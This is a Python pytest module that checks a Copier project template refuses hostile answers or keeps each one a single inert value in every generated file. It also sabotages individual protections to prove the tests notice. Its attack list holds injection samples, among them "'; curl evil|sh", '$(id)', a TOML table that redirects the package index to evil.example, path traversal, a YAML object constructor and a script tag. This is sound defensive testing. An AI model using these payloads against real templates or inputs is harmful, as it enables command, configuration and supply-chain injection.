"""An answer stays one value: in no file of a service does it become a setting, a command, a path or code.

Answers arrive from a terminal, a data file, a bot, or an edited .copier-answers.yml in somebody else's pull request.
Each attack is tried on the template as it is and must fail; then on a copy in which one protection is taken away, and
must succeed there, so that the test is known to see it. Source: catalogue row answers-cannot-inject; ASVS 1.2.5, 1.3.7.
"""

from __future__ import annotations

import ast
import csv
import json
import tomllib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from copier import run_copy

from support import Repository, copier, copy_of_the_template, done, files_of, git, replace_once

TABLE = 'x"\n[tool.uv]\nindex-url = "https://evil.example"\ny = "'
ATTACKS = {
    "a table of its own": TABLE,
    "a final newline": "payments\n",
    "a carriage return": "payments\rapi",
    "a second command": "'; curl evil|sh",
    "a command substitution": "$(id)",
    "backticks": "`id`",
    "a workflow expression": "${{ github.token }}",
    "a template expression": "{{ 7*7 }}",
    "a template statement": "{% raw %}",
    "a template comment": "{# x #}",
    "a path upwards": "../../pwn",
    "an absolute path": "/etc/pwn",
    "a module of the standard library": "os",
    "a device of Windows": "CON",
    "an option": "--evil",
    "ten kilobytes": "a" * 10_000,
    "text that runs backwards": "abc\u202edef",
    "a letter that looks like another": "p\u0430yments",
    "an invisible letter": "abc\u200bdef",
    "a line separator": "abc\u2028def",
    "a null byte": "abc\0def",
    "markup": "<script>alert(1)</script>",
    "a backslash": "abc\\",
    "quotes of both kinds": "a'b\"c",
    "a comment": "abc # def",
    "an anchor": "&x abc",
    "an object to construct": "!!python/object:os.system",
}
QUESTIONS = ("project_name", "package_name", "description", "security_contact", "code_owners")
LEGITIMATE = "O'Brien & Söhne – Payments 😀"


def render(template: Path, target: Path, **data: str) -> Path | None:
    """Render with these answers; None when they were refused, and then no file may have come to be."""
    try:
        run_copy(str(template), target, data=data, defaults=True, quiet=True, unsafe=False, vcs_ref=None)
    except ValueError:
        assert not target.exists()
        return None
    return target


def parsed(service: Path) -> dict[str, Any]:
    """Give each file as the value that its reader gets."""
    values: dict[str, Any] = {}
    for name in files_of(service):
        text = (service / name).read_text(encoding="utf-8")
        match Path(name).suffix:
            case ".toml":
                values[name] = tomllib.loads(text)
            case ".yml" | ".yaml":
                values[name] = yaml.safe_load(text)
            case ".json":
                values[name] = json.loads(text)
            case ".csv":
                values[name] = list(csv.reader(text.splitlines()))
            case ".py":
                values[name] = ast.dump(ast.parse(text, name), indent=1).splitlines()
            case _:
                values[name] = text.splitlines()
    return values


def differences(before: Any, after: Any, at: str = "") -> list[tuple[str, Any, Any]]:
    """Compare two parsed services; each place at which they differ, with both values. A new key is a place too."""
    if isinstance(before, dict) and isinstance(after, dict):
        found = [(f"{at}/{key}", before.get(key), after.get(key)) for key in before.keys() ^ after.keys()]
        for key in before.keys() & after.keys():
            found += differences(before[key], after[key], f"{at}/{key}")
        return found
    if isinstance(before, list) and isinstance(after, list) and len(before) == len(after):
        return [found for pair in zip(before, after, strict=True) for found in differences(*pair, at)]
    return [] if before == after else [(at, before, after)]


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return copy_of_the_template(tmp_path_factory.mktemp("intact") / "template")


@pytest.fixture(scope="module")
def ordinary(template: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    service = render(template, tmp_path_factory.mktemp("ordinary") / "service", description="Ordinary")
    assert service is not None
    return service


@pytest.fixture
def sabotaged(tmp_path: Path) -> Callable[[str, str, str], Path]:
    """Give a copy of the template with one edit, which has to match exactly once."""

    def edit(name: str, old: str, new: str) -> Path:
        copy = copy_of_the_template(tmp_path / "sabotaged")
        replace_once(copy / name, old, new)
        return copy

    return edit


def test_a_legitimate_description_is_one_value_in_pyproject_and_stands_in_the_readme_alone(
    template: Path, ordinary: Path, tmp_path: Path
) -> None:
    service = render(template, tmp_path / "service", description=LEGITIMATE)
    assert service is not None
    changed = {name.split("/")[1]: after for name, _, after in differences(parsed(ordinary), parsed(service))}
    assert changed.pop("pyproject.toml") == LEGITIMATE
    assert changed.pop(".copier-answers.yml") == LEGITIMATE
    assert LEGITIMATE in changed.pop("README.md")
    assert changed == {}


@pytest.mark.parametrize("question", QUESTIONS)
@pytest.mark.parametrize("attack", ATTACKS)
def test_a_hostile_answer_is_refused_or_stays_one_value(
    template: Path, ordinary: Path, tmp_path: Path, question: str, attack: str
) -> None:
    value = ATTACKS[attack]
    data = {"description": "Ordinary", question: value}
    service = render(template, tmp_path / "service", **data)
    if service is None:
        return
    assert question == "description", "only free text may be anything but plain"
    assert "\n" not in value
    for name, _, after in differences(parsed(ordinary), parsed(service)):
        assert after == value or (name == "/README.md" and value in after), name


REFUSED = [(question, attack) for question in QUESTIONS for attack in ("a table of its own", "a final newline")]


@pytest.mark.parametrize(("question", "attack"), REFUSED)
def test_a_data_file_gets_no_further(template: Path, tmp_path: Path, question: str, attack: str) -> None:
    file = tmp_path / "answers.yml"
    file.write_text(yaml.safe_dump({question: ATTACKS[attack]}), encoding="utf-8")
    result = copier("copy", "--quiet", "--defaults", f"--data-file={file}", template, tmp_path / "service")
    assert result.returncode == 1
    assert f"question '{question}'" in result.stderr
    assert not (tmp_path / "service").exists()


@pytest.mark.parametrize(("question", "attack"), REFUSED)
def test_an_edited_answers_file_gets_no_further(
    template_repository: Repository, tmp_path: Path, question: str, attack: str
) -> None:
    service = tmp_path / "service"
    done(copier("copy", "--quiet", "--defaults", template_repository.path, service))
    recorded = service / ".copier-answers.yml"
    answers = yaml.safe_load(recorded.read_text(encoding="utf-8")) | {question: ATTACKS[attack]}
    recorded.write_text(yaml.safe_dump(answers), encoding="utf-8")
    git(service, "init", "--quiet")
    git(service, "add", "--all")
    git(service, "commit", "--quiet", "--message", "innocent")
    result = copier("update", "--quiet", "--defaults", "--vcs-ref", ":current:", cwd=service)
    assert git(service, "status", "--porcelain") == ""
    if question != "package_name":  # a computed answer is never read from the file, so there it is nothing to refuse
        assert result.returncode == 1
        assert f"question '{question}'" in result.stderr


VALIDATOR_OF_DESCRIPTION = "    {% if not description | regex_search("


def injects_a_table(template: Path, target: Path) -> bool:
    service = render(template, target, description=TABLE)
    assert service is not None, "this attack needs the validator out of the way"
    project = tomllib.loads((service / "pyproject.toml").read_text(encoding="utf-8"))
    return "uv" in project["tool"]


def test_quoting_holds_alone_when_the_validator_is_gone(sabotaged: Callable[..., Path], tmp_path: Path) -> None:
    without = sabotaged("copier.yml", VALIDATOR_OF_DESCRIPTION, "    {% if false and description | regex_search(")
    assert not injects_a_table(without, tmp_path / "intact")
    project = tomllib.loads((tmp_path / "intact" / "pyproject.toml").read_text(encoding="utf-8"))
    assert project["project"]["description"] == TABLE

    replace_once(
        without / "template" / "pyproject.toml.jinja",
        "description = {{ description | to_json(ensure_ascii=False) }}",
        'description = "{{ description }}"',
    )
    assert injects_a_table(without, tmp_path / "sabotaged-service")


def test_without_its_last_anchor_the_validator_of_the_name_lets_a_newline_through(
    template: Path, sabotaged: Callable[..., Path], tmp_path: Path
) -> None:
    assert render(template, tmp_path / "intact", project_name="payments\n") is None
    weak = sabotaged("copier.yml", r"[a-z][a-z0-9]*(-[a-z0-9]+)*\\Z", "[a-z][a-z0-9]*(-[a-z0-9]+)*$")
    assert render(weak, tmp_path / "legitimate", project_name="payments") is not None
    service = render(weak, tmp_path / "service", project_name="payments\n")
    assert service is not None
    assert (service / "src" / "payments\n").is_dir()


def test_without_its_validator_a_computed_answer_shadows_the_standard_library(
    template: Path, sabotaged: Callable[..., Path], tmp_path: Path
) -> None:
    assert render(template, tmp_path / "intact", package_name="os") is None
    open_door = sabotaged("copier.yml", "{% if package_name != project_name | replace('-', '_') %}", "{% if false %}")
    assert render(open_door, tmp_path / "legitimate") is not None
    service = render(open_door, tmp_path / "service", package_name="os")
    assert service is not None
    assert (service / "src" / "os" / "__init__.py").is_file()


def test_without_ensure_ascii_an_emoji_breaks_pyproject(
    template: Path, sabotaged: Callable[..., Path], tmp_path: Path
) -> None:
    intact = render(template, tmp_path / "intact", description=LEGITIMATE)
    assert intact is not None
    tomllib.loads((intact / "pyproject.toml").read_text(encoding="utf-8"))
    ascii_only = sabotaged(
        "template/pyproject.toml.jinja",
        "{{ description | to_json(ensure_ascii=False) }}",
        "{{ description | to_json }}",
    )
    service = render(ascii_only, tmp_path / "service", description=LEGITIMATE)
    assert service is not None
    with pytest.raises(tomllib.TOMLDecodeError):
        tomllib.loads((service / "pyproject.toml").read_text(encoding="utf-8"))
